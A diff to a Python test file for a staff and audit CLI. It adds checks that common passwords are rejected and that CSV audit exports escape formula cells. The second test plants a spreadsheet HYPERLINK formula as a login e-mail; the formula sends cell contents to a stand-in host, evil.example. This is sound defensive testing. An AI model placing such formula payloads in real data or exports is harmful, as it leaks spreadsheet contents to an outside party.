@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 import sqlite3
 from pathlib import Path
@@ -12,6 +14,7 @@ from click.testing import CliRunner
 from sqlalchemy.orm import sessionmaker
 
 from core.api_clients import SCOPES
+from core.staff import PasswordPolicy, authenticate
 from core.states import EnvelopeState
 from core.storage import create_database_engine, migrate
 from gateway.cli import api_client_create, main
@@ -76,6 +79,22 @@ def test_import_dry_run_apply_and_bad_lines(home: Path, tmp_path: Path) -> None:
         stdin="short\n",
     )
     assert code == 2 and "staff.weak_password" in out
+    for common in ("Password123!", "Welcome2026!", "Qwerty123456!"):
+        # Long enough and three classes, but among the first an attacker tries (zxcvbn).
+        code, out = _run(
+            home,
+            "staff",
+            "add",
+            "--email",
+            "suzuki@city.example.jp",
+            "--name",
+            "鈴木",
+            "--roles",
+            "signer",
+            "--password-stdin",
+            stdin=f"{common}\n",
+        )
+        assert code == 2 and "staff.weak_password" in out, (common, out)
     code, out = _run(
         home,
         "staff",
@@ -127,6 +146,27 @@ def test_audit_verify_names_an_edited_event_and_exports(home: Path, tmp_path: Pa
     lines = target.read_text(encoding="utf-8-sig").splitlines()
     assert lines[0].startswith("chain_seq,at_jst,action")
     assert any(",staff.import,mallory," in line for line in lines)
+
+
+def test_audit_export_neutralises_formula_cells(home: Path, tmp_path: Path) -> None:
+    """A login e-mail is whatever a caller typed: in the export it never runs as a formula."""
+    engine = create_database_engine(f"sqlite:///{home / 'keiyaku.db'}")
+    migrate(engine)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    with sessionmaker(engine)() as session:
+        authenticate(session=session, email=evil, password="x", policy=PasswordPolicy())
+        session.commit()
+    engine.dispose()
+    today = dt.datetime.now(dt.timezone(dt.timedelta(hours=9))).date().isoformat()
+    target = tmp_path / "audit.csv"
+    code, out = _run(
+        home, "audit", "export", "--from", today, "--to", today, "--output", str(target)
+    )
+    assert code == 0, out
+    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
+    (failed,) = [r for r in rows if r[2] == "login.failed"]
+    assert failed[3] == "'" + evil.lower()
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
 
 
 def test_report_monthly(home: Path) -> None:
